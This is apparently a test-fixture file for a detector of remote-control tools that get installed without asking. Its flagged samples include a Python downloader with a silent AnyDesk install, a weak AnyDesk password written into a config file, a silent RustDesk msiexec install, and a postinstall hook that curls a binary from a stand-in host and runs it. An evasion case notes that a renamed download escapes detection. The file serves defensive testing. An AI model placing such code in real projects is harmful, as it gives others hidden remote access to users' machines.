import type { Examples } from "@doorward/core";

const onStart = '{ "name": "shop", "version": "1.0.0", "scripts": { "start": "node server.js" } }\n';

/** Programs for remote control that are set up without asking, and honest code that names them. */
export const examples: Examples = {
  hits: [
    {
      name: "a Python program that fetches a tool for remote control and sets it up in silence",
      files: {
        "main.py": `import subprocess, urllib.request
urllib.request.urlretrieve("https://files.example/AnyDesk.exe", "AnyDesk.exe")
subprocess.Popen(["AnyDesk.exe", "--install", "C:\\\\AnyDesk", "--silent"])
`,
      },
    },
    {
      name: "a server that writes the password under which others may connect",
      files: {
        "package.json": onStart,
        "server.js": `const file = process.env.APPDATA + "\\\\AnyDesk\\\\service.conf";
require("fs").appendFileSync(file, "ad.anynet.pwd_hash=0000\\n");
`,
      },
    },
    {
      name: "a batch file that installs one without a question",
      files: { "update.bat": "@echo off\r\nmsiexec /i RustDesk.msi /qn\r\n" },
    },
    {
      name: "an install script that starts one",
      files: {
        "package.json": '{ "name": "shop", "version": "1.0.0", "scripts": { "postinstall": "node setup.js" } }\n',
        "setup.js":
          'require("child_process").exec("curl -o hoptodesk https://files.example/hoptodesk && ./hoptodesk");\n',
      },
    },
  ],
  misses: [
    {
      name: "a page that links to a tool for support",
      why: "A link is shown and sets nothing up.",
      files: { "index.html": '<a href="https://support.example/teamviewer">Get support with TeamViewer</a>\n' },
    },
    {
      name: "a person's list of programs for a new computer",
      why: "The person starts it by hand and installs with a question.",
      files: { "setup.sh": "brew install --cask rustdesk\n" },
    },
    {
      name: "a program that knows the names of such tools",
      why: "A name in a list does nothing.",
      files: {
        "package.json": onStart,
        "server.js": 'const known = ["AnyDesk", "TeamViewer"];\nconsole.log(known.join());\n',
      },
    },
  ],
  evasions: [
    {
      name: "a tool under another name",
      caughtBy: "nothing",
      files: {
        "main.py": `import subprocess, urllib.request
urllib.request.urlretrieve("https://files.example/update.exe", "update.exe")
`,
      },
    },
  ],
};
